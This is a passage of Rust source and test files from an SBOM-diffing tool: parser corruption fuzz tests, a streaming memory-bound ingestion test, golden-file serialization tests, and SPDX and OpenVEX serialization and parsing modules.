            let mut bytes = doc.clone().into_bytes();
            match rng.gen_range(0..3u32) {
                // Delete a random segment.
                0 => {
                    let start = rng.gen_range(0..bytes.len());
                    let len = rng.gen_range(0..=(bytes.len() - start).min(32));
                    bytes.drain(start..start + len);
                }
                // Splice random bytes in.
                1 => {
                    let at = rng.gen_range(0..=bytes.len());
                    let insert: Vec<u8> = (0..rng.gen_range(1..16usize))
                        .map(|_| rng.gen_range(0..=255u8))
                        .collect();
                    bytes.splice(at..at, insert);
                }
                // Duplicate a segment (duplicate keys, repeated clauses).
                _ => {
                    let start = rng.gen_range(0..bytes.len());
                    let len = (bytes.len() - start).min(24);
                    let segment: Vec<u8> = bytes[start..start + len].to_vec();
                    bytes.splice(start..start, segment);
                }
            }
            let outcome = probe(&bytes);
            if outcome.fatal.is_none() {
                assert_stream_consistent(&bytes, &outcome);
            }
        }
    }
}

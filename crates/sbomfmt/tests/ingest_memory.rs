//! Ingestion memory bounds: a synthetic CycloneDX document far larger
//! than RAM-per-request budgets streams through the reader with peak
//! buffering under a fixed cap.
//!
//! The generator below implements `io::Read` and fabricates the document
//! on the fly — the full text never exists in memory, so the only
//! allocations under test are the reader's own (chunk window + token
//! scratch, witnessed by `IngestStats::peak_buffered` chunk-accounting).
//!
//! The ~100MB run is `#[ignore]`d for the default suite and executed by
//! the CI `ingest-fuzz` job via `-- --ignored`; a ~4MB variant keeps the
//! property exercised on every `cargo test`.

use std::io::Read;

use sbomdiff_sbomfmt::ingest::{ingest_reader, IngestOptions, IngestStats};
use sbomdiff_textformats::stream::{DEFAULT_CHUNK, MAX_TOKEN};

/// Streams a syntactically valid CycloneDX 1.5 document with `total`
/// components, never materializing more than one component's JSON.
struct SyntheticCdx {
    emitted: usize,
    total: usize,
    pending: Vec<u8>,
    pos: usize,
    bytes_produced: u64,
}

impl SyntheticCdx {
    fn new(total: usize) -> Self {
        SyntheticCdx {
            emitted: 0,
            total,
            pending: b"{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.5\",\
                       \"metadata\":{\"tools\":[{\"name\":\"synthetic\",\"version\":\"1.0\"}],\
                       \"component\":{\"name\":\"mem-bound\"}},\"components\":["
                .to_vec(),
            pos: 0,
            bytes_produced: 0,
        }
    }

    fn refill(&mut self) {
        self.pos = 0;
        self.pending.clear();
        if self.emitted < self.total {
            let i = self.emitted;
            self.emitted += 1;
            // ~1KB per component: a long-ish purl plus padded properties,
            // so 100k components ≈ 100MB of document.
            let pad = "p".repeat(900);
            self.pending = format!(
                "{}{{\"type\":\"library\",\"name\":\"synthetic-pkg-{i}\",\
                 \"version\":\"1.{}.{}\",\
                 \"purl\":\"pkg:npm/synthetic-pkg-{i}@1.{}.{}\",\
                 \"properties\":[{{\"name\":\"pad\",\"value\":\"{pad}\"}}]}}",
                if i == 0 { "" } else { "," },
                i % 90,
                i % 7,
                i % 90,
                i % 7,
            )
            .into_bytes();
        } else if self.emitted == self.total {
            self.emitted += 1;
            self.pending = b"]}".to_vec();
        }
    }
}

impl Read for SyntheticCdx {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        if self.pos >= self.pending.len() {
            self.refill();
            if self.pending.is_empty() {
                return Ok(0);
            }
        }
        let n = (self.pending.len() - self.pos).min(buf.len());
        buf[..n].copy_from_slice(&self.pending[self.pos..self.pos + n]);
        self.pos += n;
        self.bytes_produced += n as u64;
        Ok(n)
    }
}

/// Peak cap: the chunk in flight plus the largest single token of
/// scratch plus bookkeeping slack. Nothing scales with document size.
const PEAK_CAP: usize = DEFAULT_CHUNK + MAX_TOKEN + 4096;

fn run(total_components: usize) {
    let source = SyntheticCdx::new(total_components);
    let mut peak_seen = 0usize;
    let mut progress_calls = 0u64;
    let outcome = ingest_reader(
        source,
        IngestOptions::default(),
        &mut |stats: &IngestStats| {
            progress_calls += 1;
            peak_seen = peak_seen.max(stats.peak_buffered);
        },
    );
    assert!(outcome.fatal.is_none(), "{:?}", outcome.fatal);
    assert_eq!(outcome.stats.components, total_components);
    assert_eq!(outcome.sbom.len(), total_components);
    assert!(
        outcome.stats.peak_buffered <= PEAK_CAP,
        "peak buffering {} over cap {PEAK_CAP} for {} components",
        outcome.stats.peak_buffered,
        total_components
    );
    // Progress observed intermediate states, not just the final one, and
    // every intermediate peak obeyed the same cap.
    assert!(progress_calls >= total_components as u64);
    assert!(peak_seen <= PEAK_CAP);
    assert!(
        outcome.stats.bytes_read >= (total_components as u64) * 900,
        "generator produced less than expected: {}",
        outcome.stats.bytes_read
    );
}

#[test]
fn four_megabyte_document_streams_under_the_cap() {
    run(4_000);
}

#[test]
#[ignore = "~100MB synthetic document; run by the CI ingest-fuzz job via --ignored"]
fn hundred_megabyte_document_streams_under_the_cap() {
    run(100_000);
}

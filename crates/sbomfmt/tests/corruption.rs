//! Corruption fuzzing for the SBOM parsers.
//!
//! The serving layer feeds `SbomFormat::detect`/`parse` with untrusted
//! request bodies, so neither may panic on arbitrary input. This test
//! takes valid CycloneDX and SPDX documents and mangles them — bit flips,
//! truncations, byte splices, segment deletions — then asserts that every
//! mutant either parses cleanly or fails with an error. A panic anywhere
//! aborts the test.
//!
//! Deterministic by construction: fixed seeds, fixed iteration counts.

use rand::{rngs::StdRng, Rng, SeedableRng};
use sbomdiff_sbomfmt::SbomFormat;
use sbomdiff_types::{Component, DepScope, Ecosystem, Sbom};

/// Valid documents to corrupt: both formats over a few SBOM shapes,
/// including awkward strings that exercise escaping paths.
fn valid_documents() -> Vec<String> {
    let mut sboms = Vec::new();

    let empty = Sbom::new("fuzz-tool", "0.0.1").with_subject("empty-repo");
    sboms.push(empty);

    let mut rich = Sbom::new("fuzz-tool", "9.9").with_subject("rich-repo");
    rich.push(
        Component::new(Ecosystem::Python, "requests", Some("2.31.0".into()))
            .with_found_in("requirements.txt")
            .with_scope(DepScope::Runtime),
    );
    rich.push(
        Component::new(Ecosystem::JavaScript, "left-pad", Some("1.3.0".into()))
            .with_scope(DepScope::Dev),
    );
    rich.push(Component::new(Ecosystem::Go, "github.com/pkg/errors", None));
    sboms.push(rich);

    let mut awkward =
        Sbom::new("tool \"quoted\" \\ name", "1.0\n2.0").with_subject("weird/sub\tject");
    awkward.push(Component::new(
        Ecosystem::Java,
        "grüß-gott:パッケージ",
        Some("1.0.0-beta+exp.sha.5114f85".into()),
    ));
    sboms.push(awkward);

    sboms
        .iter()
        .flat_map(|s| {
            [
                SbomFormat::CycloneDx.serialize(s),
                SbomFormat::Spdx.serialize(s),
            ]
        })
        .collect()
}

/// Every probe the service performs on an untrusted document; must never
/// panic, whatever `text` contains.
fn probe(text: &str) {
    let detected = SbomFormat::detect(text);
    for format in [SbomFormat::CycloneDx, SbomFormat::Spdx] {
        if let Ok(sbom) = format.parse(text) {
            // A successfully parsed mutant must also re-serialize without
            // panicking (the service echoes documents back).
            let _ = format.serialize(&sbom);
        }
    }
    if let Some(format) = detected {
        let _ = format.parse(text);
    }
}

#[test]
fn bit_flips_never_panic() {
    let docs = valid_documents();
    let mut rng = StdRng::seed_from_u64(0x5b0a);
    for doc in &docs {
        for _ in 0..300 {
            let mut bytes = doc.clone().into_bytes();
            for _ in 0..rng.gen_range(1usize..=8) {
                let i = rng.gen_range(0..bytes.len());
                bytes[i] ^= 1 << rng.gen_range(0u32..8);
            }
            probe(&String::from_utf8_lossy(&bytes));
        }
    }
}

#[test]
fn truncations_never_panic() {
    let docs = valid_documents();
    let mut rng = StdRng::seed_from_u64(0x71);
    for doc in &docs {
        for _ in 0..200 {
            let cut = rng.gen_range(0..=doc.len());
            let head = String::from_utf8_lossy(&doc.as_bytes()[..cut]).into_owned();
            probe(&head);
            let tail = String::from_utf8_lossy(&doc.as_bytes()[cut..]).into_owned();
            probe(&tail);
        }
    }
}

#[test]
fn splices_and_deletions_never_panic() {
    let docs = valid_documents();
    let mut rng = StdRng::seed_from_u64(0xd1f);
    for doc in &docs {
        for _ in 0..200 {
            let mut bytes = doc.clone().into_bytes();
            match rng.gen_range(0u32..3) {
                0 => {
                    // Splice random bytes in.
                    let at = rng.gen_range(0..=bytes.len());
                    let insert: Vec<u8> = (0..rng.gen_range(1usize..16))
                        .map(|_| rng.gen_range(0u8..=255))
                        .collect();
                    bytes.splice(at..at, insert);
                }
                1 => {
                    // Delete a random segment.
                    let from = rng.gen_range(0..bytes.len());
                    let to = rng.gen_range(from..=bytes.len().min(from + 64));
                    bytes.drain(from..to);
                }
                _ => {
                    // Swap two random segments' worth of bytes.
                    let i = rng.gen_range(0..bytes.len());
                    let j = rng.gen_range(0..bytes.len());
                    bytes.swap(i, j);
                }
            }
            probe(&String::from_utf8_lossy(&bytes));
        }
    }
}

#[test]
fn pathological_inputs_never_panic() {
    let deep_open = "[".repeat(100_000);
    let deep_mixed = "{\"a\":".repeat(50_000);
    let long_string = format!("{{\"bomFormat\":\"{}\"", "x".repeat(1_000_000));
    let nul_heavy = "\u{0}".repeat(4096);
    let cases = [
        "",
        "{",
        "}",
        "\"",
        "{\"bomFormat\":\"CycloneDX\"",
        "{\"spdxVersion\":\"SPDX-",
        "{\"bomFormat\": 3.0e309}",
        "{\"components\": [null]}",
        deep_open.as_str(),
        deep_mixed.as_str(),
        long_string.as_str(),
        nul_heavy.as_str(),
        "\u{feff}{\"bomFormat\":\"CycloneDX\"}",
    ];
    for case in cases {
        probe(case);
    }
}

#[test]
fn uncorrupted_documents_round_trip() {
    // Sanity: the fuzz corpus itself is valid and detectable.
    for doc in valid_documents() {
        let format = SbomFormat::detect(&doc).expect("corpus doc detects");
        let sbom = format.parse(&doc).expect("corpus doc parses");
        assert_eq!(format.serialize(&sbom), doc);
    }
}

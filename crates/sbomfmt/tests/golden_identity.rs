//! Golden-file byte-identity for serialized SBOMs built from interned
//! components.
//!
//! `Component` fields are interned `Symbol`s; this pin proves the change
//! is invisible at the serialization boundary: a fixed SBOM renders to
//! the exact bytes checked into `tests/golden/`, whatever the pool state
//! (shared allocations, overflow un-pooled symbols) behind the symbols.
//!
//! To regenerate after an intentional format change:
//!
//! ```text
//! UPDATE_GOLDEN=1 cargo test -p sbomdiff-sbomfmt --test golden_identity
//! ```

use std::path::{Path, PathBuf};

use sbomdiff_sbomfmt::SbomFormat;
use sbomdiff_types::{Component, DepScope, Ecosystem, Purl, Sbom};

fn fixture_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name)
}

/// A fixed SBOM touching the symbol-heavy paths: names, versions, source
/// paths, PURLs with namespaces, a version-less entry, and a duplicate.
fn pinned_sbom() -> Sbom {
    let mut sbom = Sbom::new("pin-tool", "9.9.9");
    sbom.meta.subject = "golden-subject".to_string();
    sbom.push(
        Component::new(Ecosystem::Python, "numpy", Some("1.19.2".into()))
            .with_found_in("requirements.txt")
            .with_purl(Purl::new("pypi", "numpy").with_version("1.19.2")),
    );
    sbom.push(
        Component::new(
            Ecosystem::Go,
            "github.com/pkg/errors",
            Some("v0.9.1".into()),
        )
        .with_found_in("go.mod")
        .with_purl(
            Purl::new("golang", "errors")
                .with_namespace("github.com/pkg")
                .with_version("v0.9.1"),
        ),
    );
    sbom.push(
        Component::new(Ecosystem::JavaScript, "debug", None)
            .with_found_in("package.json")
            .with_scope(DepScope::Dev),
    );
    // Exact duplicate entry: serializers must keep it (duplicate counting
    // is a studied behavior, §V-A).
    sbom.push(
        Component::new(Ecosystem::Python, "numpy", Some("1.19.2".into()))
            .with_found_in("requirements.txt"),
    );
    sbom
}

fn check(name: &str, actual: &str) {
    let fixture = fixture_path(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(fixture.parent().expect("parent")).expect("mkdir golden");
        std::fs::write(&fixture, actual).expect("write fixture");
        return;
    }
    let expected = std::fs::read_to_string(&fixture).unwrap_or_else(|e| {
        panic!(
            "missing fixture {} ({e}); run UPDATE_GOLDEN=1 cargo test -p \
             sbomdiff-sbomfmt --test golden_identity",
            fixture.display()
        )
    });
    assert_eq!(
        actual, expected,
        "{name} drifted from tests/golden/{name}; regenerate only for an \
         intentional serialization change"
    );
}

#[test]
fn cyclonedx_bytes_are_pinned() {
    check(
        "interned_cyclonedx.json",
        &SbomFormat::CycloneDx.serialize(&pinned_sbom()),
    );
}

#[test]
fn spdx_bytes_are_pinned() {
    check(
        "interned_spdx.json",
        &SbomFormat::Spdx.serialize(&pinned_sbom()),
    );
}

#[test]
fn serialization_is_independent_of_symbol_pooling() {
    // Serializing twice — the second time after the strings were already
    // interned by the first pass — yields identical bytes, and a parse
    // round-trip preserves every component key.
    let first = SbomFormat::CycloneDx.serialize(&pinned_sbom());
    let second = SbomFormat::CycloneDx.serialize(&pinned_sbom());
    assert_eq!(first, second);
    let reparsed = SbomFormat::CycloneDx.parse(&first).expect("round-trip");
    assert_eq!(reparsed.len(), pinned_sbom().len());
}

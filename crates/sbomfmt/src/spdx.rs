//! SPDX 2.3 JSON serialization and parsing.

use sbomdiff_textformats::{json, TextError, Value};
use sbomdiff_types::{Component, Cpe, Ecosystem, Purl, Sbom};

/// Raw string fields of one SPDX package entry, before semantic
/// conversion. The in-memory JSON parser, the tag-value parser and the
/// streaming ingester all materialize through
/// [`RawSpdxPackage::into_component`], so the paths cannot drift apart.
#[derive(Debug, Default)]
pub(crate) struct RawSpdxPackage {
    pub(crate) name: Option<String>,
    pub(crate) version: Option<String>,
    pub(crate) source_info: Option<String>,
    /// Raw SPDX `supplier` value, e.g. `"Organization: pypi"`.
    pub(crate) supplier: Option<String>,
    /// `(referenceType, referenceLocator)` of each `externalRefs` entry
    /// with a string type, in document order (locator may be absent).
    pub(crate) refs: Vec<(String, Option<String>)>,
}

/// Normalizes an SPDX `supplier` value to the bare supplier name:
/// strips the `Organization:` / `Person:` prefix and treats empty or
/// `NOASSERTION` values as absent.
pub(crate) fn supplier_name(raw: &str) -> Option<String> {
    let v = raw.trim();
    let v = v
        .strip_prefix("Organization:")
        .or_else(|| v.strip_prefix("Person:"))
        .unwrap_or(v)
        .trim();
    (!v.is_empty() && v != "NOASSERTION").then(|| v.to_string())
}

impl RawSpdxPackage {
    /// Converts raw fields into a [`Component`] (`None`: no name, entry is
    /// skipped). For repeated refs of one type the last occurrence wins;
    /// `sourceInfo` carries the structured `ecosystem`/`found_in`/`scope`
    /// annotation; PURL-derived ecosystem wins over the annotation.
    pub(crate) fn into_component(self) -> Option<Component> {
        let name = self.name?;
        let mut purl = None;
        let mut cpe = None;
        for (rtype, locator) in &self.refs {
            match rtype.as_str() {
                "purl" => purl = locator.as_deref().and_then(|l| l.parse::<Purl>().ok()),
                "cpe23Type" => cpe = locator.as_deref().and_then(|l| l.parse::<Cpe>().ok()),
                _ => {}
            }
        }
        let mut ecosystem = purl
            .as_ref()
            .and_then(|p: &Purl| p.ptype().parse::<Ecosystem>().ok());
        let mut found_in = String::new();
        let mut scope = None;
        if let Some(info) = &self.source_info {
            for part in info.split(';') {
                let part = part.trim();
                if let Some(v) = part.strip_prefix("ecosystem:") {
                    ecosystem = ecosystem.or_else(|| v.trim().parse().ok());
                } else if let Some(v) = part.strip_prefix("found_in:") {
                    found_in = v.trim().to_string();
                } else if let Some(v) = part.strip_prefix("scope:") {
                    scope = crate::scope_from_label(v.trim());
                }
            }
        }
        let mut c = Component::new(ecosystem.unwrap_or(Ecosystem::Python), name, self.version)
            .with_found_in(found_in);
        c.purl = purl;
        c.cpe = cpe;
        c.scope = scope;
        c.supplier = self
            .supplier
            .as_deref()
            .and_then(supplier_name)
            .map(Into::into);
        Some(c)
    }
}

/// Splits a `"Tool: {name}-{version}"` creator into `(name, version)`,
/// falling back to `("unknown", "")` exactly like the JSON parser.
pub(crate) fn creator_tool(creator: &str) -> (String, String) {
    creator
        .strip_prefix("Tool: ")
        .and_then(|t| t.rsplit_once('-'))
        .map(|(n, v)| (n.to_string(), v.to_string()))
        .unwrap_or_else(|| ("unknown".to_string(), String::new()))
}

/// Recovers the analyzed subject from a `{subject}-{tool}` document name.
pub(crate) fn subject_from_doc_name(doc_name: &str, tool_name: &str) -> String {
    doc_name
        .strip_suffix(&format!("-{tool_name}"))
        .unwrap_or("")
        .to_string()
}

/// Serializes an SBOM as an SPDX 2.3 JSON [`Value`].
pub fn to_value(sbom: &Sbom) -> Value {
    let mut doc = Value::object();
    doc.set("spdxVersion", Value::from("SPDX-2.3"));
    doc.set("dataLicense", Value::from("CC0-1.0"));
    doc.set("SPDXID", Value::from("SPDXRef-DOCUMENT"));
    doc.set(
        "name",
        Value::from(format!("{}-{}", sbom.meta.subject, sbom.meta.tool_name)),
    );
    doc.set(
        "documentNamespace",
        Value::from(format!(
            "https://sbomdiff.example/spdx/{}/{}",
            sbom.meta.tool_name, sbom.meta.subject
        )),
    );
    let mut creation = Value::object();
    creation.set(
        "creators",
        Value::Array(vec![Value::from(format!(
            "Tool: {}-{}",
            sbom.meta.tool_name, sbom.meta.tool_version
        ))]),
    );
    if let Some(ts) = &sbom.meta.timestamp {
        creation.set("created", Value::from(ts.clone()));
    }
    doc.set("creationInfo", creation);

    let mut packages = Vec::new();
    let mut relationships = Vec::new();
    for (i, c) in sbom.components().iter().enumerate() {
        let spdx_id = format!("SPDXRef-Package-{i}");
        packages.push(component_to_value(c, &spdx_id));
        let mut rel = Value::object();
        rel.set("spdxElementId", Value::from("SPDXRef-DOCUMENT"));
        rel.set("relationshipType", Value::from("DESCRIBES"));
        rel.set("relatedSpdxElement", Value::from(spdx_id));
        relationships.push(rel);
    }
    doc.set("packages", Value::Array(packages));
    doc.set("relationships", Value::Array(relationships));
    doc
}

fn component_to_value(c: &Component, spdx_id: &str) -> Value {
    let mut pkg = Value::object();
    pkg.set("name", Value::from(c.name.as_str()));
    pkg.set("SPDXID", Value::from(spdx_id));
    if let Some(v) = &c.version {
        pkg.set("versionInfo", Value::from(v.as_str()));
    }
    pkg.set("downloadLocation", Value::from("NOASSERTION"));
    if let Some(s) = &c.supplier {
        pkg.set("supplier", Value::from(format!("Organization: {s}")));
    }
    // SPDX has no dependency-scope field (§V-F); sourceInfo carries our
    // structured annotation.
    let mut source_info = format!("ecosystem: {}", c.ecosystem.label());
    if !c.found_in.is_empty() {
        source_info.push_str(&format!("; found_in: {}", c.found_in));
    }
    if let Some(scope) = c.scope {
        source_info.push_str(&format!("; scope: {}", scope.label()));
    }
    pkg.set("sourceInfo", Value::from(source_info));
    let mut refs = Vec::new();
    if let Some(p) = &c.purl {
        let mut r = Value::object();
        r.set("referenceCategory", Value::from("PACKAGE-MANAGER"));
        r.set("referenceType", Value::from("purl"));
        r.set("referenceLocator", Value::from(p.to_string()));
        refs.push(r);
    }
    if let Some(cpe) = &c.cpe {
        let mut r = Value::object();
        r.set("referenceCategory", Value::from("SECURITY"));
        r.set("referenceType", Value::from("cpe23Type"));
        r.set("referenceLocator", Value::from(cpe.to_string()));
        refs.push(r);
    }
    if !refs.is_empty() {
        pkg.set("externalRefs", Value::Array(refs));
    }
    pkg
}

/// Serializes an SBOM as pretty-printed SPDX JSON.
pub fn to_string_pretty(sbom: &Sbom) -> String {
    json::to_string_pretty(&to_value(sbom))
}

/// Parses an SPDX JSON document.
///
/// # Errors
///
/// Returns [`TextError`] on malformed JSON or a non-SPDX document.
pub fn from_str(text: &str) -> Result<Sbom, TextError> {
    let doc = json::parse(text)?;
    let spdx_version = doc.get("spdxVersion").and_then(Value::as_str);
    if !spdx_version.is_some_and(|v| v.starts_with("SPDX-")) {
        return Err(TextError::new(0, "not an SPDX document"));
    }
    let creator = doc
        .pointer("creationInfo/creators/0")
        .and_then(Value::as_str)
        .unwrap_or("");
    let (tool_name, tool_version) = creator_tool(creator);
    let subject = subject_from_doc_name(
        doc.get("name").and_then(Value::as_str).unwrap_or(""),
        &tool_name,
    );
    let mut sbom = Sbom::new(tool_name, tool_version).with_subject(subject);
    sbom.meta.timestamp = doc
        .pointer("creationInfo/created")
        .and_then(Value::as_str)
        .map(str::to_string);
    if let Some(packages) = doc.get("packages").and_then(Value::as_array) {
        for pkg in packages {
            let mut raw = RawSpdxPackage {
                name: pkg.get("name").and_then(Value::as_str).map(str::to_string),
                version: pkg
                    .get("versionInfo")
                    .and_then(Value::as_str)
                    .map(str::to_string),
                source_info: pkg
                    .get("sourceInfo")
                    .and_then(Value::as_str)
                    .map(str::to_string),
                supplier: pkg
                    .get("supplier")
                    .and_then(Value::as_str)
                    .map(str::to_string),
                refs: Vec::new(),
            };
            if let Some(refs) = pkg.get("externalRefs").and_then(Value::as_array) {
                for r in refs {
                    if let Some(rtype) = r.get("referenceType").and_then(Value::as_str) {
                        let locator = r
                            .get("referenceLocator")
                            .and_then(Value::as_str)
                            .map(str::to_string);
                        raw.refs.push((rtype.to_string(), locator));
                    }
                }
            }
            if let Some(c) = raw.into_component() {
                sbom.push(c);
            }
        }
    }
    Ok(sbom)
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_types::DepScope;

    fn sample() -> Sbom {
        let mut sbom = Sbom::new("trivy", "0.43.0")
            .with_subject("demo-repo")
            .with_timestamp("2024-06-24T00:00:00Z");
        sbom.push(
            Component::new(Ecosystem::Rust, "serde", Some("1.0.188".into()))
                .with_found_in("Cargo.lock")
                .with_scope(DepScope::Runtime)
                .with_purl(Purl::for_package(Ecosystem::Rust, "serde", Some("1.0.188")))
                .with_cpe(Cpe::for_package(Ecosystem::Rust, "serde", "1.0.188"))
                .with_supplier("crates.io:serde"),
        );
        sbom.push(Component::new(
            Ecosystem::Java,
            "com.google.guava:guava",
            Some("32.1.2".into()),
        ));
        sbom
    }

    #[test]
    fn roundtrip() {
        let original = sample();
        let text = to_string_pretty(&original);
        let back = from_str(&text).unwrap();
        assert_eq!(back.meta.tool_name, "trivy");
        assert_eq!(back.meta.tool_version, "0.43.0");
        assert_eq!(back.meta.subject, "demo-repo");
        assert_eq!(back.len(), 2);
        assert_eq!(back.components()[0].name, "serde");
        assert_eq!(back.components()[0].found_in, "Cargo.lock");
        assert_eq!(back.components()[0].scope, Some(DepScope::Runtime));
        assert_eq!(
            back.components()[0].supplier.as_deref(),
            Some("crates.io:serde")
        );
        assert_eq!(back.components()[1].ecosystem, Ecosystem::Java);
        assert_eq!(back.components()[1].supplier, None);
        assert_eq!(back.meta.timestamp.as_deref(), Some("2024-06-24T00:00:00Z"));
    }

    #[test]
    fn supplier_value_normalization() {
        assert_eq!(supplier_name("Organization: pypi"), Some("pypi".into()));
        assert_eq!(supplier_name("Person: Jane Doe"), Some("Jane Doe".into()));
        assert_eq!(supplier_name("bare-name"), Some("bare-name".into()));
        assert_eq!(supplier_name("NOASSERTION"), None);
        assert_eq!(supplier_name("Organization: NOASSERTION"), None);
        assert_eq!(supplier_name("   "), None);
    }

    #[test]
    fn document_shape() {
        let text = to_string_pretty(&sample());
        let doc = json::parse(&text).unwrap();
        assert_eq!(
            doc.get("spdxVersion").and_then(Value::as_str),
            Some("SPDX-2.3")
        );
        assert_eq!(
            doc.pointer("packages/0/SPDXID").and_then(Value::as_str),
            Some("SPDXRef-Package-0")
        );
        assert_eq!(
            doc.pointer("relationships/0/relationshipType")
                .and_then(Value::as_str),
            Some("DESCRIBES")
        );
    }

    #[test]
    fn deterministic() {
        assert_eq!(to_string_pretty(&sample()), to_string_pretty(&sample()));
    }

    #[test]
    fn rejects_non_spdx() {
        assert!(from_str("{\"bomFormat\": \"CycloneDX\"}").is_err());
        assert!(from_str("[]").is_err());
    }
}

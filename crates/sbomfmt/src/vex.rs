//! Vulnerability Exploitability eXchange (VEX) documents.
//!
//! §II-A notes SBOMs' "compatibility with Vulnerability Exploitability
//! eXchange (VEX), a structured database detailing product vulnerabilities"
//! — VEX is the companion artifact through which vendors communicate
//! whether a vulnerability in an SBOM component actually affects the
//! product. This module emits a minimal OpenVEX-shaped JSON document and
//! parses it back, so impact assessments can round-trip alongside the
//! SBOMs they annotate.

use sbomdiff_textformats::{json, TextError, Value};

/// A VEX statement status (OpenVEX vocabulary).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum VexStatus {
    /// The product is affected by the vulnerability.
    Affected,
    /// The product is not affected.
    NotAffected,
    /// The vulnerability has been fixed in this product version.
    Fixed,
    /// Analysis is ongoing.
    UnderInvestigation,
}

impl VexStatus {
    fn as_str(self) -> &'static str {
        match self {
            VexStatus::Affected => "affected",
            VexStatus::NotAffected => "not_affected",
            VexStatus::Fixed => "fixed",
            VexStatus::UnderInvestigation => "under_investigation",
        }
    }

    fn parse(s: &str) -> Option<VexStatus> {
        Some(match s {
            "affected" => VexStatus::Affected,
            "not_affected" => VexStatus::NotAffected,
            "fixed" => VexStatus::Fixed,
            "under_investigation" => VexStatus::UnderInvestigation,
            _ => return None,
        })
    }
}

impl std::fmt::Display for VexStatus {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One VEX statement: a vulnerability, the products (PURLs) it concerns,
/// and the assessed status.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VexStatement {
    /// Vulnerability identifier (CVE/advisory id).
    pub vulnerability: String,
    /// Product identifiers (PURLs) the statement applies to.
    pub products: Vec<String>,
    /// Assessed status.
    pub status: VexStatus,
    /// Optional justification / impact statement.
    pub justification: Option<String>,
}

/// A VEX document: an author plus statements.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct VexDocument {
    /// Document author (tool or organization).
    pub author: String,
    /// The statements.
    pub statements: Vec<VexStatement>,
}

impl VexDocument {
    /// Creates an empty document.
    pub fn new(author: impl Into<String>) -> Self {
        VexDocument {
            author: author.into(),
            statements: Vec::new(),
        }
    }

    /// Adds a statement.
    pub fn push(&mut self, statement: VexStatement) {
        self.statements.push(statement);
    }

    /// Serializes as OpenVEX-shaped JSON (deterministic).
    pub fn to_string_pretty(&self) -> String {
        let mut doc = Value::object();
        doc.set("@context", Value::from("https://openvex.dev/ns/v0.2.0"));
        doc.set(
            "@id",
            Value::from(format!(
                "https://sbomdiff.example/vex/{}",
                fnv(&self.author)
            )),
        );
        doc.set("author", Value::from(self.author.clone()));
        doc.set("version", Value::from(1i64));
        let statements: Vec<Value> = self
            .statements
            .iter()
            .map(|s| {
                let mut st = Value::object();
                let mut vuln = Value::object();
                vuln.set("name", Value::from(s.vulnerability.clone()));
                st.set("vulnerability", vuln);
                let products: Vec<Value> = s
                    .products
                    .iter()
                    .map(|p| {
                        let mut prod = Value::object();
                        prod.set("@id", Value::from(p.clone()));
                        prod
                    })
                    .collect();
                st.set("products", Value::Array(products));
                st.set("status", Value::from(s.status.as_str()));
                if let Some(j) = &s.justification {
                    st.set("justification", Value::from(j.clone()));
                }
                st
            })
            .collect();
        doc.set("statements", Value::Array(statements));
        json::to_string_pretty(&doc)
    }

    /// Parses an OpenVEX-shaped JSON document (also available through the
    /// standard [`std::str::FromStr`]).
    ///
    /// # Errors
    ///
    /// Returns [`TextError`] on malformed JSON or a document without the
    /// OpenVEX context.
    pub fn parse(text: &str) -> Result<VexDocument, TextError> {
        let doc = json::parse(text)?;
        let context = doc.get("@context").and_then(Value::as_str).unwrap_or("");
        if !context.contains("openvex") {
            return Err(TextError::new(0, "not an OpenVEX document"));
        }
        let author = doc
            .get("author")
            .and_then(Value::as_str)
            .unwrap_or("unknown")
            .to_string();
        let mut out = VexDocument::new(author);
        if let Some(statements) = doc.get("statements").and_then(Value::as_array) {
            for st in statements {
                let Some(vulnerability) = st
                    .pointer("vulnerability/name")
                    .and_then(Value::as_str)
                    .map(str::to_string)
                else {
                    continue;
                };
                let Some(status) = st
                    .get("status")
                    .and_then(Value::as_str)
                    .and_then(VexStatus::parse)
                else {
                    continue;
                };
                let products = st
                    .get("products")
                    .and_then(Value::as_array)
                    .map(|ps| {
                        ps.iter()
                            .filter_map(|p| p.get("@id").and_then(Value::as_str))
                            .map(str::to_string)
                            .collect()
                    })
                    .unwrap_or_default();
                out.push(VexStatement {
                    vulnerability,
                    products,
                    status,
                    justification: st
                        .get("justification")
                        .and_then(Value::as_str)
                        .map(str::to_string),
                });
            }
        }
        Ok(out)
    }
}

impl std::str::FromStr for VexDocument {
    type Err = TextError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        VexDocument::parse(s)
    }
}

fn fnv(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.bytes() {
        h = (h ^ b as u64).wrapping_mul(0x100_0000_01b3);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> VexDocument {
        let mut doc = VexDocument::new("sbomdiff");
        doc.push(VexStatement {
            vulnerability: "SYN-2023-0001".into(),
            products: vec!["pkg:pypi/numpy@1.19.2".into()],
            status: VexStatus::Affected,
            justification: None,
        });
        doc.push(VexStatement {
            vulnerability: "SYN-2023-0002".into(),
            products: vec!["pkg:pypi/requests@2.31.0".into()],
            status: VexStatus::NotAffected,
            justification: Some("vulnerable code not present".into()),
        });
        doc
    }

    #[test]
    fn roundtrip() {
        let doc = sample();
        let text = doc.to_string_pretty();
        let back = VexDocument::parse(&text).unwrap();
        assert_eq!(back, doc);
    }

    #[test]
    fn deterministic() {
        assert_eq!(sample().to_string_pretty(), sample().to_string_pretty());
    }

    #[test]
    fn openvex_shape() {
        let text = sample().to_string_pretty();
        let v = json::parse(&text).unwrap();
        assert!(v
            .get("@context")
            .and_then(Value::as_str)
            .unwrap()
            .contains("openvex"));
        assert_eq!(
            v.pointer("statements/1/status").and_then(Value::as_str),
            Some("not_affected")
        );
    }

    #[test]
    fn rejects_non_vex() {
        assert!(VexDocument::parse("{}").is_err());
        assert!(VexDocument::parse("nope").is_err());
    }

    #[test]
    fn status_vocabulary_roundtrips() {
        for status in [
            VexStatus::Affected,
            VexStatus::NotAffected,
